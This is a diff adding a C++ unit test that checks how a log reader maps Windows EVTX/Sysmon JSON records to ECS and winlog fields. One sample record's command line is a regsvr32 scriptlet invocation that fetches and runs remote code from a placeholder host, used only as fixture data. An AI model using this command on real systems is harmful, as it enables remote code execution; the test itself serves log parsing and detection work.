@@ -935,3 +935,53 @@ TEST(NdjsonReader, ValueEndFollowsBracketsOutsideStrings) {
   EXPECT_FALSE(NdjsonReader::line_delimited(R"({"took":1,"_shards":{},"hits":{"hits":[]}})" "\n"));
   EXPECT_TRUE(NdjsonReader::line_delimited(R"({"_shards":{},"hits":{"hits":3}})" "\n"));
 }
+
+TEST(NdjsonReader, EventTreesBecomeTheDocumentsTheirRecordsGive) {
+  // evtx_dump's lines (also kept in Elasticsearch, under _source) and the Go
+  // decoders' shape (System at the top level): winlog.* and the ECS mapping,
+  // as an EVTX record of the event gives; numbers as their text.
+  const std::string dump =
+      R"({"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{)"
+      R"("Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},)"
+      R"("EventID":1,"Level":4,"TimeCreated":{"#attributes":{"SystemTime":"2019-03-19T23:34:07.497245Z"}},)"
+      R"("EventRecordID":42,"Execution":{"#attributes":{"ProcessID":1920,"ThreadID":2180}},)"
+      R"("Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws1.corp","Security":{"#attributes":{"UserID":"S-1-5-18"}}},)"
+      R"("EventData":{"ProcessId":5532,"Image":"C:\\Windows\\System32\\regsvr32.exe","CommandLine":"regsvr32 /s /i:http://x/a.sct scrobj.dll","Hashes":null}}})";
+  const std::string go =
+      R"({"System":{"Provider":{"Name":"Microsoft-Windows-Security-Auditing"},"EventID":{"Qualifiers":"","Value":"4688"},)"
+      R"("TimeCreated":{"SystemTime":"2019-03-19T23:35:00Z"},"Channel":"Security","Computer":"dc1"},)"
+      R"("EventData":{"NewProcessName":"C:\\w\\b.exe","Data":["x"]}})";
+  FieldRegistry fields;
+  const std::vector<std::string> names{"process.executable", "process.pid", "event.code", "host.name", "@timestamp",
+                                       "winlog.record_id", "winlog.event_data.param1", "winlog.event_data.Hashes"};
+  std::vector<FieldId> ids;
+  for (const auto& n : names) ids.push_back(fields.intern(n));
+  auto rendered = [&](const std::string& path) {
+    std::vector<std::string> out;
+    EventReader reader(fields);
+    ReadStats stats;
+    reader.read(path, 0, [&](EventBatch& batch) {
+      for (const Event& e : batch.events) {
+        std::string row;
+        for (FieldId id : ids) {
+          append_json(row, e.get(id));
+          row += " ";
+        }
+        out.push_back(row);
+      }
+      return true;
+    }, stats);
+    EXPECT_TRUE(stats.diagnostics.empty());
+    return out;
+  };
+  const std::vector<std::string> want{
+      R"("C:\\Windows\\System32\\regsvr32.exe" 5532 "1" "ws1.corp" "2019-03-19T23:34:07.497245Z" 42 null "" )",
+      R"("C:\\w\\b.exe" null "4688" "dc1" "2019-03-19T23:35:00Z" null "x" null )"};
+  TempFile lines(dump + "\n" + go + "\n");
+  TempFile hits(R"({"_index":"evtx","_id":"1","_source":)" + dump + "}\n" + R"({"_index":"evtx","_source":)" + go + "}\n");
+  EXPECT_EQ(rendered(lines.path), want);
+  EXPECT_EQ(rendered(hits.path), want);
+  // An input of ECS documents is not taken for one: a "System" member elsewhere stays where it is.
+  TempFile ecs(R"({"event":{"code":"7"},"System":{"EventID":1},"host":{"name":"h"}})" "\n");
+  EXPECT_EQ(rendered(ecs.path), (std::vector<std::string>{R"(null null "7" "h" null null null null )"}));
+}
